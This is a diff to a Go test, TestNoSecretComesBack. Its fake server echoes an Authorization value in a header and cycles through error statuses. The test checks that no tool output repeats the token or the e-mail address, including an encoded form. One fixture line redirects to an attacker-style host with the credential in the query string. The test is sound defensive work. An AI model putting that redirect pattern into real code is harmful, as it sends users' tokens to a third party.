@@ -154,6 +154,7 @@ func TestNoSecretComesBack(t *testing.T) {
 			credential = string(raw) // the e-mail and the token
 		}
 		said := fmt.Sprintf(`You sent Authorization: %s, which is token=%s of jane.doe@example.com to %s`, authorization, credential, r.URL)
+		w.Header().Set("Atl-Traceid", authorization)
 		w.Header().Set("Retry-After", "3600")
 		status := []int{400, 401, 403, 404, 409, 429, 500, 503, 302, 200}[turn.Add(1)%10]
 		w.Header().Set("Location", "https://evil.example/?token="+credential)
@@ -188,7 +189,7 @@ func TestNoSecretComesBack(t *testing.T) {
 			if err != nil {
 				t.Fatal(err)
 			}
-			for _, secret := range append(secrets, "jane.doe@example.com to ") {
+			for _, secret := range append(secrets, "jane.doe@example.com to ", "jane.doe%40") {
 				if strings.Contains(got.text+string(raw), secret) {
 					t.Errorf("%s tells %q: %s", tool, secret, got.text)
 				}
